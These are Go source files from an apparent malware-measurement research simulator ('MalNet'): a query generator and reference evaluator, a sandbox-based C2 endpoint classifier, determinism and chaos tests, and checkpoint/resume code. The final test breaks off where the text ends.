		return fmt.Sprintf("family!=%q", g.pick(g.fams, role+"/family"))
	case 2:
		return fmt.Sprintf("family in (%q, %q)",
			g.pick(g.fams, role+"/fam-a"), g.pick(g.fams, role+"/fam-b"))
	case 3:
		return fmt.Sprintf("disposition==%q", g.pick(g.disps, role+"/disp"))
	case 4:
		return fmt.Sprintf("c2==%q", g.pick(g.c2s, role+"/c2"))
	case 5:
		return fmt.Sprintf("attack==%q", g.pick(g.attacks, role+"/attack"))
	case 6:
		lo := g.roll(400, role+"/day-lo")
		return fmt.Sprintf("day in %d..%d", lo, lo+g.roll(120, role+"/day-span"))
	case 7:
		ops := []string{"<", "<=", ">", ">=", "==", "!="}
		return fmt.Sprintf("day %s %d", ops[g.roll(len(ops), role+"/day-op")], g.roll(400, role+"/day"))
	default:
		if g.roll(2, role+"/ctr") == 0 {
			return fmt.Sprintf("detections >= %d", g.roll(9, role+"/det"))
		}
		return fmt.Sprintf("retries == %d", g.roll(4, role+"/retries"))
	}
}

// agg draws the aggregation stage ("" keeps the implicit count()).
func (g *QueryGen) agg() string {
	groups := []string{"family", "disposition", "c2", "attack"}
	by := groups[g.roll(len(groups), "agg/by")]
	switch g.roll(6, "agg/shape") {
	case 0:
		return ""
	case 1:
		return "count()"
	case 2, 3:
		return "count() by " + by
	case 4:
		args := []string{"detections", "retries", "day"}
		return fmt.Sprintf("sum(%s) by %s", args[g.roll(len(args), "agg/sum-arg")], by)
	default:
		return fmt.Sprintf("topk(%d) by %s", 1+g.roll(20, "agg/k"), by)
	}
}
