package colstore

import (
	"malnet/internal/core"
	"malnet/internal/world"
)

// RefEval is the row-at-a-time reference evaluator: the same query
// semantics as Batch.Compile + Plan.Run, written the naive way —
// walk every record, compare strings, accumulate in maps. It exists
// for two reasons: the differential suite asserts the vectorized
// engine returns byte-identical results to this one across thousands
// of generated queries, and the benchmarks quantify what the
// columnar encoding buys over it.
func RefEval(q *Query, samples []*core.SampleRecord) (*Result, error) {
	if err := q.Validate(); err != nil {
		return nil, err
	}
	start := world.StudyStart().Unix()
	res := &Result{Agg: q.Agg.Fn, By: q.Agg.By}

	var scalar int64
	sums := map[string]int64{}
	counts := map[string]int64{}
	var scratch []string
	for _, rec := range samples {
		if q.Filter != nil && !refMatch(q.Filter, rec, start) {
			continue
		}
		res.Matched++
		a := q.Agg
		switch {
		case a.By == "" && a.Fn == "sum":
			scalar += refInt(a.Arg, rec, start)
		case a.By == "":
			scalar++
		default:
			val := int64(1)
			if a.Fn == "sum" {
				val = refInt(a.Arg, rec, start)
			}
			if sampleSchema[a.By] == kindList {
				for _, key := range refList(a.By, rec, scratch[:0]) {
					counts[key]++
					sums[key] += val
				}
			} else {
				key := refStr(a.By, rec)
				counts[key]++
				sums[key] += val
			}
		}
	}

	if q.Agg.By == "" {
		res.Rows = []ResultRow{{Value: scalar}}
		return res, nil
	}
	acc := counts
	if q.Agg.Fn == "sum" {
		acc = sums
	}
	rows := make([]ResultRow, 0, len(counts))
	for key := range counts { // counts keys = groups with a selected row
		rows = append(rows, ResultRow{Key: key, Value: acc[key]})
	}
	res.Rows = finishGroups(rows, q.Agg)
	return res, nil
}

// refMatch evaluates a filter node against one record.
func refMatch(e Expr, rec *core.SampleRecord, start int64) bool {
	switch e := e.(type) {
	case *Not:
		return !refMatch(e.X, rec, start)
	case *Logic:
		if e.Op == "and" {
			return refMatch(e.X, rec, start) && refMatch(e.Y, rec, start)
		}
		return refMatch(e.X, rec, start) || refMatch(e.Y, rec, start)
	case *Cmp:
		switch sampleSchema[e.Field] {
		case kindDict:
			eq := refStr(e.Field, rec) == e.Str
			if e.Op == "!=" {
				return !eq
			}
			return eq
		case kindList:
			any := false
			for _, v := range refList(e.Field, rec, nil) {
				if v == e.Str {
					any = true
					break
				}
			}
			if e.Op == "!=" {
				return !any
			}
			return any
		default:
			v := refInt(e.Field, rec, start)
			switch e.Op {
			case "==":
				return v == e.Int
			case "!=":
				return v != e.Int
			case "<":
				return v < e.Int
			case "<=":
				return v <= e.Int
			case ">":
				return v > e.Int
			default:
				return v >= e.Int
			}
		}
	case *In:
		switch sampleSchema[e.Field] {
		case kindDict:
			return containsStr(e.Strs, refStr(e.Field, rec))
		case kindList:
			for _, v := range refList(e.Field, rec, nil) {
				if containsStr(e.Strs, v) {
					return true
				}
			}
			return false
		default:
			v := refInt(e.Field, rec, start)
			if e.IsRange {
				return v >= e.Lo && v <= e.Hi
			}
			for _, x := range e.Ints {
				if v == x {
					return true
				}
			}
			return false
		}
	}
	return false
}

func refStr(field string, rec *core.SampleRecord) string {
	if field == "family" {
		return rec.Family
	}
	return rec.Disposition.String()
}

func refList(field string, rec *core.SampleRecord, buf []string) []string {
	if field == "c2" {
		return rowC2s(rec, buf)
	}
	return rowAttacks(rec, buf)
}

func refInt(field string, rec *core.SampleRecord, start int64) int64 {
	switch field {
	case "day":
		return dayOf(rec, start)
	case "retries":
		return int64(rec.C2Retries)
	}
	return int64(rec.Detections)
}
