// Package core is the MalNet pipeline itself — the paper's primary
// contribution. Given freshly-published binaries it produces the
// five study datasets:
//
//	D-Samples  verified binaries with family labels (§2.2)
//	D-C2s      C2 addresses found via sandbox analysis and
//	           cross-validated against threat intelligence (§2.3a)
//	D-PC2      active-probing measurements of live C2s (§2.3b)
//	D-Exploits exploits captured by the handshaker (§2.4)
//	D-DDOS     DDoS commands extracted from live C2 sessions (§2.5)
//
// Each stage is a standalone analyzer over sandbox reports, so the
// stages are individually testable and reusable outside the
// year-long study driver.
package core

import (
	"bytes"
	"net/netip"
	"sort"
	"strconv"
	"time"

	"malnet/internal/c2"
	"malnet/internal/intel"
	"malnet/internal/sandbox"
)

// C2Candidate is one C2 endpoint the traffic classifier attributes
// to a sample.
type C2Candidate struct {
	// Address is the endpoint as the malware references it:
	// "ip:port" or "name:port".
	Address string
	// Kind distinguishes IP-literal from DNS-name C2s.
	Kind intel.AddrKind
	// IP is the concrete address dials went to (the resolution for
	// DNS-kind).
	IP netip.Addr
	// Port is the C2 port.
	Port uint16
	// Attempts is how many call-home dials targeted it.
	Attempts int
	// Live reports whether a session was established and the
	// protocol engaged during analysis.
	Live bool
	// Signature names the matched protocol artifact, "" if the
	// classification rests on behavior only.
	Signature string
}

// c2Signature inspects a session's first payloads for known C2
// protocol openings (the profile-based half of the classifier). The
// per-family artifacts come from the spec registry; a generic
// server-keepalive check backstops families without one.
func c2Signature(firstOut, firstIn []byte) string {
	for _, p := range c2.Protocols() {
		if label, ok := p.Signature(firstOut); ok {
			return label
		}
	}
	if bytes.Contains(firstIn, []byte("PING")) && !bytes.HasPrefix(firstOut, []byte("GET ")) {
		return "server-keepalive"
	}
	return ""
}

// looksLikeExploit rejects sessions whose first payload is an HTTP
// exploit or download — those are proliferation, not C2.
func looksLikeExploit(firstOut []byte) bool {
	return bytes.HasPrefix(firstOut, []byte("GET ")) ||
		bytes.HasPrefix(firstOut, []byte("POST "))
}

// DetectC2 classifies a sandbox report's traffic into C2 endpoints.
// It is binary-centric: the verdict rests on the sample's observed
// call-home behavior — repeated dials to one endpoint, protocol
// signatures, DNS-then-dial patterns — not on the sample's config
// (which a real analysis cannot read). minAttempts is the repeat
// threshold for signature-less endpoints (2 is the default used by
// the study).
func DetectC2(rep *sandbox.Report, minAttempts int) []C2Candidate {
	if minAttempts < 1 {
		minAttempts = 2
	}
	type agg struct {
		cand  C2Candidate
		first []byte
	}
	byEndpoint := map[string]*agg{}
	for _, d := range rep.Dials {
		// Group by what the sample *requested* — redirection and
		// InetSim routing must not change the attribution. Dials
		// preceded by a DNS lookup are attributed to the looked-up
		// name (the sandbox records it per dial, since in isolated
		// mode every name resolves to the same fake address).
		key := d.Requested.String()
		host := d.Requested.IP.String()
		kind := intel.KindIP
		if d.Name != "" {
			host = d.Name
			kind = intel.KindDNS
			key = d.Name + ":" + strconv.Itoa(int(d.Requested.Port))
		}
		a := byEndpoint[key]
		if a == nil {
			a = &agg{cand: C2Candidate{
				Address: host + ":" + strconv.Itoa(int(d.Requested.Port)),
				Kind:    kind,
				IP:      d.Requested.IP,
				Port:    d.Requested.Port,
			}}
			byEndpoint[key] = a
		}
		a.cand.Attempts++
		if sig := c2Signature(d.FirstOut, d.FirstIn); sig != "" && a.cand.Signature == "" {
			a.cand.Signature = sig
		}
		if d.Established && (len(d.FirstOut) > 0 || len(d.FirstIn) > 0) {
			a.cand.Live = true
		}
		if a.first == nil {
			a.first = d.FirstOut
		}
	}

	var out []C2Candidate
	for _, a := range byEndpoint {
		if looksLikeExploit(a.first) && a.cand.Signature == "" {
			continue // proliferation traffic
		}
		if a.cand.Signature == "" && a.cand.Attempts < minAttempts {
			continue // one-shot connection without protocol match
		}
		out = append(out, a.cand)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Address < out[j].Address })
	return out
}

// LiveC2 reports whether any detected C2 endpoint engaged during the
// run — the paper's "live C2 server on the day they were reported"
// measurement.
func LiveC2(cands []C2Candidate) bool {
	for _, c := range cands {
		if c.Live {
			return true
		}
	}
	return false
}

// ObservedLifespan is the paper's lifespan definition (§3.2): "the
// interval between the last and the first time we observe a C2
// server referred by a sample", floored at one day for same-day
// observations.
func ObservedLifespan(first, last time.Time) time.Duration {
	d := last.Sub(first)
	if d < 24*time.Hour {
		return 24 * time.Hour
	}
	return d
}
