package core

import (
	"testing"

	"malnet/internal/world"
)

// chaosStudy runs a faulted study: the deterministic fault plan is
// installed on the world net and every shard, probe retries are
// armed, and the watchdog bounds activations.
func chaosStudy(t *testing.T, seed int64, workers int) *Study {
	t.Helper()
	wcfg := world.DefaultConfig(seed)
	wcfg.TotalSamples = equivWorldSamples()
	scfg := DefaultStudyConfig(seed)
	scfg.Analysis.ProbeRounds = 4
	scfg.Determinism.Workers = workers
	scfg.Determinism.Faults = true
	scfg.Determinism.FaultSeed = seed + 1000
	return RunStudy(world.Generate(wcfg), scfg)
}

// TestChaosEquivalence is the fault layer's half of the determinism
// contract: with injected packet loss, resets, latency spikes,
// blackouts, and slow drips all armed at a fixed fault seed, the
// study still completes (no wedged workers) and renders byte-identical
// datasets at Workers=1, 2, and 8 — the fault schedule is a pure
// function of the plan seed, never of scheduling.
func TestChaosEquivalence(t *testing.T) {
	ref := chaosStudy(t, 11, 1)
	refRender := renderDatasets(ref)
	if len(refRender) < 200 {
		t.Fatalf("reference render suspiciously small (%d bytes):\n%s", len(refRender), refRender)
	}

	// The run must not be vacuously clean: faults have to have bitten
	// somewhere, and the retry/disposition machinery must have fired.
	var faults, retries int
	disp := map[Disposition]int{}
	for _, s := range ref.Samples {
		faults += s.Faults.Total()
		retries += s.C2Retries
		disp[s.Disposition]++
	}
	if faults == 0 {
		t.Fatal("chaos study saw zero injected faults in sandboxes; the plan is not installed on shards")
	}
	if ref.W.Net.FaultStats().Total() == 0 {
		t.Fatal("chaos study saw zero injected faults on the world net")
	}
	if ref.Probe == nil || ref.Probe.Retries == 0 {
		t.Fatal("probe retries never fired under injected faults")
	}
	if retries == 0 {
		t.Fatal("no sample ever re-dialed its C2 under injected faults")
	}
	if disp[DispAlive]+disp[DispRetriedThenAlive] == 0 || disp[DispDead] == 0 {
		t.Fatalf("disposition split degenerate: %v", disp)
	}

	for _, workers := range []int{2, 8} {
		got := renderDatasets(chaosStudy(t, 11, workers))
		if got != refRender {
			diffAt := len(refRender)
			for i := 0; i < len(got) && i < len(refRender); i++ {
				if got[i] != refRender[i] {
					diffAt = i
					break
				}
			}
			lo, hi := diffAt-80, diffAt+80
			if lo < 0 {
				lo = 0
			}
			clamp := func(s string) string {
				h := hi
				if h > len(s) {
					h = len(s)
				}
				if lo >= h {
					return ""
				}
				return s[lo:h]
			}
			t.Fatalf("workers=%d differs from sequential near byte %d:\nseq: %q\npar: %q",
				workers, diffAt, clamp(refRender), clamp(got))
		}
	}
}

// TestChaosSeedIndependence: changing only the fault seed changes the
// outcome (the plan actually feeds off FaultSeed), while the same
// fault seed reproduces it exactly.
func TestChaosSeedIndependence(t *testing.T) {
	render := func(faultSeed int64) string {
		wcfg := world.DefaultConfig(11)
		wcfg.TotalSamples = equivWorldSamples()
		scfg := DefaultStudyConfig(11)
		scfg.Analysis.ProbeRounds = 2
		scfg.Determinism.Workers = 4
		scfg.Determinism.Faults = true
		scfg.Determinism.FaultSeed = faultSeed
		return renderDatasets(RunStudy(world.Generate(wcfg), scfg))
	}
	a := render(900)
	if b := render(900); b != a {
		t.Fatal("same fault seed did not reproduce the faulted study")
	}
	if c := render(901); c == a {
		t.Fatal("fault seeds 900 and 901 rendered identical studies; FaultSeed is dead")
	}
}
