package core

import (
	"bytes"
	"encoding/json"
	"fmt"
	"reflect"
	"sort"
	"strings"
	"time"

	"malnet/internal/c2"
	"malnet/internal/checkpoint"
	"malnet/internal/obs"
	"malnet/internal/simnet"
	"malnet/internal/world"
)

// Durable study runs.
//
// A year-long study is a long single process; killing it used to mean
// starting over. With CheckpointConfig.Dir set, the merge goroutine
// writes a snapshot after each day's batch, and Resume restarts a
// killed study from the newest snapshot with byte-identical output —
// datasets, metrics snapshot, and journal all match an uninterrupted
// run at any worker count.
//
// A snapshot does NOT serialize the world: the world is regenerated
// from the seed, the checkpointed feed publications are replayed, and
// the shared clock is run forward to the snapshot instant with event
// journaling off. That replay reproduces everything that is a pure
// function of (seed, absolute time) — server duty-cycle flips, probe
// rounds and their aggregates, intel registrations — and the snapshot
// then overwrites the small set of state that is not: the datasets,
// the two metrics registries, per-pair connection counters (the fault
// plan's schedule coordinate), attack-chain positions, and the
// journal cursor. See DESIGN.md "Durable runs" for what is
// deliberately left out (ephemeral ports, the ground-truth Issued
// log) and why that is invisible to study output.

// CheckpointConfig makes a study durable.
type CheckpointConfig struct {
	// Dir is where snapshots are written (one file per checkpointed
	// day, older days pruned). Empty disables checkpointing.
	Dir string
	// Every writes a snapshot after every Every-th non-empty day
	// batch; 0 or 1 means every batch.
	Every int
	// Resume restarts from the newest snapshot in Dir when one
	// exists. The snapshot's config fingerprint must match the
	// current run; a mismatch fails loudly naming the fields.
	Resume bool
	// OnCheckpoint, when set, runs after each snapshot is durably on
	// disk (written, fsync'd, and older days pruned). The study uses
	// it to publish snapshots into a run lake; an error fails the
	// day's checkpoint, not the study's data. Excluded from the config
	// fingerprint along with the rest of CheckpointConfig
	// (StudyConfig.Durability is json:"-"): publication side effects
	// do not change study output.
	OnCheckpoint func(day int, path string) error
}

// fingerprintData is the config surface a snapshot is only valid
// for: the world config, the study config's canonical serialization
// (StudyConfig's json.Marshal — which excludes Workers, callbacks,
// and checkpoint paths by struct-tag construction, exactly the knobs
// deterministic output does not depend on), and whether a journal is
// attached (journaling decides whether events are retained at all).
type fingerprintData struct {
	World   world.Config `json:"world"`
	Study   StudyConfig  `json:"study"`
	Journal bool         `json:"journal"`
}

// fingerprint serializes the study's config surface. Computed after
// RunStudyContext's defaulting, so explicit-but-default flags
// fingerprint the same as omitted ones.
func (st *Study) fingerprint() []byte {
	b, err := json.Marshal(fingerprintData{
		World:   st.W.Cfg,
		Study:   st.Cfg,
		Journal: st.obs.Journal != nil,
	})
	if err != nil {
		panic("core: fingerprint not marshalable: " + err.Error())
	}
	return b
}

// fingerprintDiff names the fields on which two fingerprints differ,
// dotted-path style ("world.TotalSamples", "seed"), sorted.
func fingerprintDiff(a, b []byte) []string {
	var am, bm map[string]any
	if json.Unmarshal(a, &am) != nil || json.Unmarshal(b, &bm) != nil {
		return []string{"(unparsable fingerprint)"}
	}
	var out []string
	diffMaps("", am, bm, &out)
	sort.Strings(out)
	return out
}

func diffMaps(prefix string, a, b map[string]any, out *[]string) {
	keys := map[string]bool{}
	for k := range a {
		keys[k] = true
	}
	for k := range b {
		keys[k] = true
	}
	for k := range keys {
		path := k
		if prefix != "" {
			path = prefix + "." + k
		}
		av, aok := a[k]
		bv, bok := b[k]
		if !aok || !bok {
			*out = append(*out, path)
			continue
		}
		if an, aIsMap := av.(map[string]any); aIsMap {
			if bn, bIsMap := bv.(map[string]any); bIsMap {
				diffMaps(path, an, bn, out)
				continue
			}
		}
		if !reflect.DeepEqual(av, bv) {
			*out = append(*out, path)
		}
	}
}

// CheckpointMeta is the snapshot's scalar state. Exported for the
// read side (the serving layer shows day/progress next to the data).
type CheckpointMeta struct {
	// Day is the snapshot's day index (days since world.StudyStart).
	Day int `json:"day"`
	// ClockNow is the shared clock at the end of the day's batch.
	ClockNow time.Time `json:"clock_now"`
	// Merge-goroutine tallies.
	Processed    int `json:"processed"`
	Rejected     int `json:"rejected"`
	FilteredArch int `json:"filtered_arch"`
	// Journal cursor (zero when no journal is attached).
	JournalNextID int64 `json:"journal_next_id"`
	JournalBytes  int64 `json:"journal_bytes"`
}

// CheckpointDatasets is the snapshot's dataset state (D-PC2 is
// absent: probing aggregates are rebuilt by replay).
type CheckpointDatasets struct {
	Samples  []*SampleRecord      `json:"samples"`
	C2s      map[string]*C2Record `json:"c2s"`
	Exploits []ExploitFinding     `json:"exploits"`
	DDoS     []DDoSObservation    `json:"ddos"`
}

// dayIndex is a study day's position in the calendar.
func dayIndex(day time.Time) int {
	return int(day.Sub(world.StudyStart()).Hours() / 24)
}

// saveCheckpoint snapshots the study after dayIdx's batch. Runs on
// the merge goroutine, so every field it reads is quiescent. The
// journal is flushed first: Rewind truncates the trace file to the
// checkpointed byte count, which is only meaningful if those bytes
// had reached the file.
func (st *Study) saveCheckpoint(dayIdx int) error {
	fail := func(err error) error {
		return fmt.Errorf("checkpoint day %d: %w", dayIdx, err)
	}
	if j := st.obs.Journal; j != nil {
		if err := j.Flush(); err != nil {
			return fail(err)
		}
	}
	meta := CheckpointMeta{
		Day:          dayIdx,
		ClockNow:     st.W.Clock.Now(),
		Processed:    st.processed,
		Rejected:     st.Rejected,
		FilteredArch: st.FilteredArch,
	}
	meta.JournalNextID, meta.JournalBytes = st.obs.Journal.Cursor()

	chains := map[string][]c2.ChainState{}
	for addr, srv := range st.W.Servers {
		if cs := srv.AttackChains(); len(cs) > 0 {
			chains[addr] = cs
		}
	}

	f := &checkpoint.File{}
	f.Add("fingerprint", st.fingerprint())
	for _, s := range []struct {
		name string
		v    any
	}{
		{"meta", meta},
		{"datasets", CheckpointDatasets{
			Samples: st.Samples, C2s: st.C2s,
			Exploits: st.Exploits, DDoS: st.DDoS,
		}},
		{"metrics", st.obs.Root.Registry().Export()},
		{"world-metrics", st.W.Net.Obs().Registry().Export()},
		{"conn-seq", st.W.Net.ConnSeqSnapshots()},
		{"attack-chains", chains},
	} {
		if err := f.AddJSON(s.name, s.v); err != nil {
			return fail(err)
		}
	}
	path := checkpoint.DayPath(st.Cfg.Durability.Dir, dayIdx)
	if err := checkpoint.WriteFile(path, f); err != nil {
		return fail(err)
	}
	if err := checkpoint.Prune(st.Cfg.Durability.Dir, dayIdx); err != nil {
		return fail(err)
	}
	if cb := st.Cfg.Durability.OnCheckpoint; cb != nil {
		if err := cb(dayIdx, path); err != nil {
			return fail(err)
		}
	}
	return nil
}

// resumeFromCheckpoint restores the newest valid snapshot in the
// checkpoint dir, returning its day index, or -1 when the dir holds
// none (the study then runs from the start). Called once, before the
// daily loop, with the world freshly generated and the probing
// schedule already on the clock.
func (st *Study) resumeFromCheckpoint() (int, error) {
	snap, skipped, err := checkpoint.Latest(st.Cfg.Durability.Dir)
	if err != nil {
		return -1, fmt.Errorf("resume: %w", err)
	}
	// Corrupt snapshots are environmental, not part of the study's
	// deterministic output, so the counter only exists when the
	// fallback actually fired — a clean resume's metrics snapshot
	// stays byte-identical to an uninterrupted run's. Logged again
	// after the registry Restore below, which would wipe it.
	logSkipped := func() {
		if skipped > 0 {
			st.obs.Root.Counter("checkpoint.skipped_corrupt").Add(int64(skipped))
		}
	}
	if snap == nil {
		logSkipped()
		return -1, nil
	}
	f, path := snap.File, snap.Path
	have, found := f.Section("fingerprint")
	if !found {
		return -1, fmt.Errorf("resume: %s has no config fingerprint", path)
	}
	if want := st.fingerprint(); !bytes.Equal(have, want) {
		return -1, fmt.Errorf("resume: %s was written by a differently configured run; differing fields: %s",
			path, strings.Join(fingerprintDiff(have, want), ", "))
	}
	var (
		meta         CheckpointMeta
		ds           CheckpointDatasets
		metrics      obs.MetricsDump
		worldMetrics obs.MetricsDump
		seqs         []simnet.ConnSeqSnapshot
		chains       map[string][]c2.ChainState
	)
	for _, s := range []struct {
		name string
		v    any
	}{
		{"meta", &meta},
		{"datasets", &ds},
		{"metrics", &metrics},
		{"world-metrics", &worldMetrics},
		{"conn-seq", &seqs},
		{"attack-chains", &chains},
	} {
		if err := f.JSON(s.name, s.v); err != nil {
			return -1, fmt.Errorf("resume: %s: %w", path, err)
		}
	}

	// Re-anchor the attack chains before replaying: the generated
	// world's chains fire at their planned times, but whether a live
	// window's bot was there to take the command is history replay
	// does not rerun. The snapshot's chain positions are that
	// history's outcome; arm them and cancel the planned schedule.
	for addr, srv := range st.W.Servers {
		srv.RestoreAttackChains(chains[addr])
	}

	// Replay with event journaling off: every event the replay would
	// record was already journaled (and drained per batch) before the
	// snapshot's cursor.
	wobs := st.W.Net.Obs()
	wobs.EnableEvents(false)
	st.W.ReplayFeedThrough(world.StudyStart().AddDate(0, 0, meta.Day))
	st.W.Clock.RunUntil(meta.ClockNow)
	wobs.DrainEvents()
	wobs.EnableEvents(st.obs.Journal != nil)

	// Replay reproduced the pure-function state; overwrite the rest.
	st.obs.Root.Registry().Restore(metrics)
	wobs.Registry().Restore(worldMetrics)
	st.W.Net.RestoreConnSeqs(seqs)
	st.Samples, st.Exploits, st.DDoS = ds.Samples, ds.Exploits, ds.DDoS
	st.C2s = ds.C2s
	if st.C2s == nil {
		st.C2s = map[string]*C2Record{}
	}
	st.Rejected, st.FilteredArch = meta.Rejected, meta.FilteredArch
	st.processed, st.lastProgress = meta.Processed, meta.Processed
	if j := st.obs.Journal; j != nil {
		if err := j.Rewind(meta.JournalNextID, meta.JournalBytes); err != nil {
			return -1, fmt.Errorf("resume: %w", err)
		}
	}
	logSkipped()
	return meta.Day, nil
}

// StudySnapshot is the read-only view of a checkpointed study, the
// serving layer's unit of ingest. Unlike resume it does not replay a
// world: it carries exactly what the snapshot recorded — the four
// datasets, the scalar meta, and the two metric registries' dumps —
// plus the content-addressed generation id the response cache keys
// on.
type StudySnapshot struct {
	// Path and Day locate the snapshot in its directory.
	Path string
	Day  int
	// Generation is the snapshot file's SHA-256 integrity footer in
	// hex: two byte-identical snapshots (e.g. the same study run at
	// different worker counts) share a generation.
	Generation string
	// SkippedCorrupt counts newer snapshots in the directory that
	// were passed over as corrupt or truncated.
	SkippedCorrupt int

	Meta     CheckpointMeta
	Datasets CheckpointDatasets
}

// OpenStudySnapshot loads the newest valid checkpoint in dir for
// read-only serving, skipping corrupt snapshots like resume does. It
// returns (nil, nil) when dir holds no loadable checkpoint. The
// returned metrics registry is reconstructed the way a finished
// study's Metrics() would read: the checkpointed study-plane
// registry, the dataset-size gauges, and the world-plane registry
// merged under the "world." prefix.
func OpenStudySnapshot(dir string) (*StudySnapshot, *obs.Registry, error) {
	snap, skipped, err := checkpoint.Latest(dir)
	if err != nil {
		return nil, nil, fmt.Errorf("open snapshot: %w", err)
	}
	if snap == nil {
		return nil, nil, nil
	}
	ss, reg, err := snapshotFromFile(snap.File, snap.Path)
	if err != nil {
		return nil, nil, err
	}
	ss.SkippedCorrupt = skipped
	return ss, reg, nil
}

// OpenSnapshotAt loads one specific checkpoint file for read-only
// serving — the lake's time-travel path, where the file is a
// content-addressed object rather than the newest entry of a
// directory. The day comes from the snapshot's own meta (lake object
// names carry no day), which for directory checkpoints equals the
// day in the filename by construction of saveCheckpoint.
func OpenSnapshotAt(path string) (*StudySnapshot, *obs.Registry, error) {
	f, err := checkpoint.ReadFile(path)
	if err != nil {
		return nil, nil, fmt.Errorf("open snapshot: %s: %w", path, err)
	}
	return snapshotFromFile(f, path)
}

// snapshotFromFile builds the serving view from a decoded checkpoint:
// the snapshot struct plus a metrics registry reconstructed the way a
// finished study's Metrics() would read (study-plane registry,
// dataset-size gauges, world-plane registry under the "world."
// prefix).
func snapshotFromFile(f *checkpoint.File, path string) (*StudySnapshot, *obs.Registry, error) {
	ss := &StudySnapshot{
		Path:       path,
		Generation: f.SumHex(),
	}
	var metrics, worldMetrics obs.MetricsDump
	for _, s := range []struct {
		name string
		v    any
	}{
		{"meta", &ss.Meta},
		{"datasets", &ss.Datasets},
		{"metrics", &metrics},
		{"world-metrics", &worldMetrics},
	} {
		if err := f.JSON(s.name, s.v); err != nil {
			return nil, nil, fmt.Errorf("open snapshot: %s: %w", path, err)
		}
	}
	ss.Day = ss.Meta.Day
	if ss.Datasets.C2s == nil {
		ss.Datasets.C2s = map[string]*C2Record{}
	}
	reg := obs.NewRegistry()
	reg.Restore(metrics)
	reg.Gauge("study.samples").Set(int64(len(ss.Datasets.Samples)))
	reg.Gauge("study.c2s").Set(int64(len(ss.Datasets.C2s)))
	reg.Gauge("study.exploit_findings").Set(int64(len(ss.Datasets.Exploits)))
	reg.Gauge("study.ddos_observations").Set(int64(len(ss.Datasets.DDoS)))
	wreg := obs.NewRegistry()
	wreg.Restore(worldMetrics)
	reg.MergePrefixed("world.", wreg)
	return ss, reg, nil
}
