package core

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"malnet/internal/checkpoint"
	"malnet/internal/obs"
	"malnet/internal/world"
)

// ckptWorldConfig sizes the resume-equivalence worlds: small enough
// that seven full runs stay quick, big enough that every dataset and
// both probe sweeps are populated. The mechanics under test don't
// depend on feed volume.
func ckptWorldConfig(seed int64) world.Config {
	wcfg := world.DefaultConfig(seed)
	wcfg.TotalSamples = 120
	return wcfg
}

func ckptStudyConfig(seed int64, workers int) StudyConfig {
	scfg := DefaultStudyConfig(seed)
	scfg.Analysis.ProbeRounds = 4
	scfg.Determinism.Workers = workers
	return scfg
}

// studyOutput is everything a study run externalizes: the rendered
// datasets (the five CSVs; every report table and figure is a pure
// function of these), the deterministic metrics snapshot, and the
// trace journal's bytes.
type studyOutput struct {
	datasets, metrics, journal string
}

// runCkptStudy executes one study against a fresh world. journalPath
// is opened (created, or reopened without truncation when resuming)
// and receives the trace. killDay < 0 runs to completion; otherwise a
// context cancel is scheduled on the world clock killDay days into
// the study and the run is expected to fail with context.Canceled.
func runCkptStudy(t *testing.T, seed int64, workers int, journalPath, ckptDir string, resume bool, killDay int) studyOutput {
	t.Helper()
	w := world.Generate(ckptWorldConfig(seed))
	scfg := ckptStudyConfig(seed, workers)
	scfg.Durability = CheckpointConfig{Dir: ckptDir, Resume: resume}

	jf, err := os.OpenFile(journalPath, os.O_RDWR|os.O_CREATE, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	defer jf.Close()
	scfg.Observability.Obs = obs.NewObserver()
	scfg.Observability.Obs.SetJournal(jf)

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	if killDay >= 0 {
		w.Clock.Schedule(world.StudyStart().AddDate(0, 0, killDay), cancel)
	}
	st, err := RunStudyContext(ctx, w, scfg)
	if killDay >= 0 {
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("killed run (day %d): want context.Canceled, got %v", killDay, err)
		}
	} else if err != nil {
		t.Fatalf("study failed: %v", err)
	}
	if err := scfg.Observability.Obs.Flush(); err != nil {
		t.Fatalf("journal flush: %v", err)
	}
	jb, err := os.ReadFile(journalPath)
	if err != nil {
		t.Fatal(err)
	}
	return studyOutput{
		datasets: renderDatasets(st),
		metrics:  st.Metrics().Snapshot(),
		journal:  string(jb),
	}
}

// TestCheckpointResumeEquivalence is the durability contract: a study
// killed mid-run and resumed from its newest checkpoint produces
// byte-identical datasets, metrics, and journal to one that was never
// interrupted — at several worker counts and kill points. Day 3
// typically precedes the first checkpoint (resume-from-nothing must
// equal a fresh run); days 17 and 29 land mid-study with real state
// to restore.
func TestCheckpointResumeEquivalence(t *testing.T) {
	const seed = 11
	base := t.TempDir()
	ref := runCkptStudy(t, seed, 1, filepath.Join(base, "ref.jsonl"), "", false, -1)
	if len(ref.datasets) < 200 {
		t.Fatalf("reference render suspiciously small (%d bytes):\n%s", len(ref.datasets), ref.datasets)
	}

	for _, tc := range []struct {
		workers, killDay int
	}{
		{1, 3},
		{2, 17},
		{8, 29},
	} {
		ckptDir := filepath.Join(base, "ckpt")
		if err := os.RemoveAll(ckptDir); err != nil {
			t.Fatal(err)
		}
		journal := filepath.Join(base, "run.jsonl")
		if err := os.RemoveAll(journal); err != nil {
			t.Fatal(err)
		}

		runCkptStudy(t, seed, tc.workers, journal, ckptDir, false, tc.killDay)
		got := runCkptStudy(t, seed, tc.workers, journal, ckptDir, true, -1)

		for _, cmp := range []struct {
			what, got, want string
		}{
			{"datasets", got.datasets, ref.datasets},
			{"metrics", got.metrics, ref.metrics},
			{"journal", got.journal, ref.journal},
		} {
			if cmp.got == cmp.want {
				continue
			}
			gl, wl := strings.Split(cmp.got, "\n"), strings.Split(cmp.want, "\n")
			for i := 0; i < len(gl) && i < len(wl); i++ {
				if gl[i] != wl[i] {
					t.Fatalf("workers=%d killDay=%d: resumed %s diverges at line %d:\nresumed:  %s\nstraight: %s",
						tc.workers, tc.killDay, cmp.what, i+1, gl[i], wl[i])
				}
			}
			t.Fatalf("workers=%d killDay=%d: resumed %s differs in length: %d vs %d lines",
				tc.workers, tc.killDay, cmp.what, len(gl), len(wl))
		}
	}
}

// TestResumeSkipsCorruptCheckpoint: a corrupt snapshot shadowing the
// newest valid one must not strand the run — resume falls back to
// the valid snapshot, produces output byte-identical to an
// uninterrupted study, and logs the fallback on the
// checkpoint.skipped_corrupt counter (which exists only when the
// fallback fired, so clean runs stay byte-identical).
func TestResumeSkipsCorruptCheckpoint(t *testing.T) {
	const seed = 11
	base := t.TempDir()
